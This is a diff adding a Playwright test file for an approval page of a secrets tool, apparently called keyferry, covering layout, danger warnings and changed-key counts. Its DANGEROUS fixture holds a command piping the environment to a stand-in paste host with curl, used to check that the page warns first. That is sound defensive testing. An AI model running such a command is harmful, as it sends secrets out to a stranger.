@@ -1,0 +1,149 @@
+import { createClient } from '@keyferry/contract/client'
+import { generatePollVerifier } from '@keyferry/crypto/poll-challenge'
+import type { Browser, BrowserContextOptions, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { type Asking, askApproval, createLibrary, META } from './app-library.ts'
+import { closePage, expectAccessible, openKeys, openPage, readRequest } from './app-page.ts'
+import { hasBrowser, launchBrowser } from './browser.ts'
+import { type RunningServer, startServer } from './start-server.ts'
+
+const PHONE = { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true }
+const WAY_BACK = `#lb=9.${'A'.repeat(43)}`
+const DANGEROUS = {
+  bundle: 'prod/shop/mail',
+  address: '203.0.113.9',
+  argv: ['bash', '-c', `env | curl -d @- https://paste.example/${'long/'.repeat(60)}`],
+}
+
+// Adds up how far parts of the page moved.
+const WATCH_SHIFTS = `
+  window.shifted = 0
+  new PerformanceObserver((list) => { for (const { value } of list.getEntries()) window.shifted += value })
+    .observe({ type: 'layout-shift', buffered: true })
+`
+
+const approve = (page: Page) => page.getByRole('button', { name: /^Approve/ })
+
+describe.skipIf(!hasBrowser())('the approval page at a glance', () => {
+  let server: RunningServer
+  let browser: Browser
+  let keys: ReadonlyMap<string, string>
+
+  beforeAll(async () => {
+    ;[server, browser] = await Promise.all([
+      startServer({ env: { TRUST_PROXY: '127.0.0.1' } }),
+      launchBrowser(),
+    ])
+    ;({ keys } = await createLibrary(server.url))
+  })
+  afterAll(async () => {
+    await browser?.close()
+    await server?.dispose()
+  })
+
+  async function opened(asking: Asking, options: BrowserContextOptions = {}) {
+    const returning = { release: ['loopback', 'code'] as const, verifier: generatePollVerifier() }
+    const request = await askApproval(server.url, { address: '127.0.0.1', ...returning, ...asking })
+    const page = await openPage(browser, options)
+    await page.addInitScript(WATCH_SHIFTS)
+    await page.goto(server.url + request.verification_uri_complete + WAY_BACK)
+    await approve(page).waitFor()
+    return page
+  }
+
+  test('the usual request fits a phone without scrolling, nothing moves, and no reason is shown', async () => {
+    const page = await opened({ bundle: 'dev/app', argv: ['npm', 'run', 'dev'] }, PHONE)
+    await page.getByRole('heading', { name: 'npm run dev', level: 1 }).waitFor()
+    for (const text of ['dev/app · 6 keys', 'Goes back to this computer only', 'Details'])
+      await page.getByText(text).waitFor()
+    await expect.poll(() => approve(page).getAttribute('aria-disabled')).toBe('false')
+    expect(await page.evaluate('document.documentElement.scrollHeight')).toBe(844)
+    expect(await page.evaluate('window.shifted')).toBe(0)
+    expect(await page.getByRole('alert').count()).toBe(0)
+    expect(await page.getByRole('region', { name: 'Check code' }).count()).toBe(0)
+    await closePage(page)
+  })
+
+  test('danger comes before the command, the worst first, and is on the button', async () => {
+    const page = await opened(DANGEROUS, PHONE)
+    const band = page.getByRole('alert')
+    const lines = (await band.innerText()).split('\n').filter((line) => line !== '')
+    expect(lines).toEqual([
+      'PRODUCTION prod/shop/mail',
+      'bash runs a script, which can do anything with the values.',
+      'Not your network: requested from 203.0.113.9, you are at 127.0.0.1.',
+    ])
+    const heading = await page.getByRole('heading', { level: 1 }).boundingBox()
+    expect((await band.boundingBox())?.y).toBeLessThan(heading?.y ?? 0)
+    await page.getByRole('button', { name: 'Approve for PRODUCTION' }).waitFor()
+    expect(await page.evaluate('window.shifted')).toBe(0)
+    await expectAccessible(page)
+    await closePage(page)
+  })
+
+  test.each([
+    ['360 × 225', { viewport: { width: 360, height: 225 } }],
+    ['a phone that lies on its side', { viewport: { width: 844, height: 390 }, hasTouch: true }],
+    ['a laptop at 200 %', { viewport: { width: 640, height: 400 }, deviceScaleFactor: 2 }],
+  ] as const)('on %s the decision is in view, and leaves room for the rest', async (_, options) => {
+    const page = await opened(DANGEROUS, options)
+    for (const name of ['Deny', 'Approve for PRODUCTION']) {
+      const box = await page.getByRole('button', { name }).boundingBox()
+      expect(box?.y).toBeGreaterThan(0)
+      expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThanOrEqual(options.viewport.height)
+    }
+    const bar = await page.locator('#decision').boundingBox()
+    expect(bar?.height).toBeLessThan(options.viewport.height / 2)
+    await closePage(page)
+  })
+
+  test('a value that changed since the last approval is counted, and comes first', async () => {
+    const first = await opened({ bundle: 'dev/app' })
+    await first.getByText('6 keys, your first approval of this bundle').waitFor()
+    const [bundle] = await createClient(server.url)('GET', '/api/v1/bundles', { query: { query: 'dev/app' } })
+    const { id } = await askApproval(server.url, { bundle: 'dev/app' })
+    const names = ['DATABASE_URL', 'REDIS_URL', 'PORT', 'SESSION_SECRET', 'STRIPE_SECRET_KEY', 'LOG_LEVEL']
+    const body = { bundle_id: bundle?.id ?? '', include_keys: names }
+    await createClient(server.url)('POST', '/api/v1/requests/{request_id}/encrypt-from-bundle', {
+      params: { request_id: id },
+      body,
+    })
+    await first.reload()
+    await first.getByText('6 keys, unchanged since you last approved').waitFor()
+    await createClient(server.url)('PUT', '/api/v1/keys/{key_id}', {
+      params: { key_id: keys.get('SESSION_SECRET') ?? '' },
+      body: { value: 'planted-other' },
+    })
+    await first.reload()
+    await first.getByText('6 keys, 1 changed since you last approved').waitFor()
+    await openKeys(first)
+    expect(await first.getByRole('listitem').first().innerText()).toMatch(/SESSION_SECRET\s+version 2/)
+    await expectAccessible(first)
+    await closePage(first)
+  })
+
+  test('for pull the page shows all flags, and where the values go', async () => {
+    const meta = { ...META, via: 'pull' }
+    const argv = ['keyferry', 'pull']
+    const page = await opened({
+      bundle: 'dev/app',
+      meta,
+      argv,
+      flags: ['pull', '--output=.env', '--force=true'],
+    })
+    await page.getByText('Writes to .env').waitFor()
+    expect(await page.getByRole('heading', { level: 1 }).innerText()).toContain('--force')
+    const printed = await opened({ bundle: 'dev/app', meta, argv, flags: ['pull'] })
+    await printed.getByText('Prints to the terminal').waitFor()
+    await Promise.all([closePage(page), closePage(printed)])
+  })
+
+  test('a bundle that the client would refuse is not offered', async () => {
+    const page = await opened({ bundle: 'dev/app', meta: { ...META, via: 'run' }, argv: ['npm', 'start'] })
+    await page.getByRole('button', { name: 'Change', exact: true }).click()
+    await page.getByText('keyferry run BUNDLE -- npm start').waitFor()
+    expect(await page.getByRole('combobox').count()).toBe(0)
+    await readRequest(page)
+    await closePage(page)
+  })
+})
